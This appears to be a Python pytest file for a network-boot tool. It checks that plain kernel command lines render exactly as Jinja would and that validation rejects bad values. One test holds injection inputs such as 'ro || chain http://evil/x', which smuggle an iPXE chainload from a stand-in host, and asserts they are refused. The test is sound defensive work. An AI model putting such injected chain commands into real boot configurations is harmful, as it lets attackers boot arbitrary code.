"""A cmdline with no Jinja syntax (most of them) is its own rendering: render_cmdline gives it
without building the template context (a boot storm renders a thousand scripts), and what it
gives is what Jinja's rendering of it gives, limits and checks included."""

from __future__ import annotations

import dataclasses
import re

import pytest
from bootkit import BASE, CASES, MAC, host

from shared import bootcmdline, bootcontext, bootplan


def rendered_by_jinja(cmdline: str) -> str:
    profile = dataclasses.replace(CASES["install"][1], cmdline=cmdline)
    ctx = bootcontext.template_context(MAC, host(), profile, None, BASE, url_token=None,
                                    done_token=None)
    return bootcmdline._ENV.from_string(cmdline).render(ctx).strip()


@pytest.mark.parametrize("cmdline", [
    "console=ttyS0 quiet panic=-1", "  ro  ", "ro\n", "ro  rd.break ", "a=b%c #x", "}} ro",
    "ro {# a comment is no output #}",
])
def test_a_plain_cmdline_renders_as_jinja_would(cmdline):
    assert bootcmdline._compiled(cmdline).literal is not None
    profile = dataclasses.replace(CASES["install"][1], cmdline=cmdline)
    got = bootcmdline.render_cmdline(host(), profile, bootplan.Facts(base_url=BASE))
    assert got == rendered_by_jinja(cmdline)


@pytest.mark.parametrize("cmdline", ["ro {{ mac }}", "{% if mac %}ro{% endif %}"])
def test_a_template_is_still_rendered_with_its_context(cmdline):
    assert bootcmdline._compiled(cmdline).literal is None
    profile = dataclasses.replace(CASES["install"][1], cmdline=cmdline)
    got = bootcmdline.render_cmdline(host(), profile, bootplan.Facts(base_url=BASE))
    assert got == rendered_by_jinja(cmdline)


@pytest.mark.parametrize("cmdline,problem", [
    ("ro x=$1", "'$'"), ("ro || chain http://evil/x", "iPXE would run"),
    ("ro\nchain http://evil/x", "control character"), ("x" * 2100, "more than 2048"),
])
def test_a_plain_cmdline_is_checked_as_a_rendered_one(cmdline, problem):
    profile = dataclasses.replace(CASES["install"][1], cmdline=cmdline)
    with pytest.raises(bootcmdline.TemplateFailed, match=re.escape(problem)):
        bootcmdline.render_cmdline(host(), profile, bootplan.Facts(base_url=BASE))
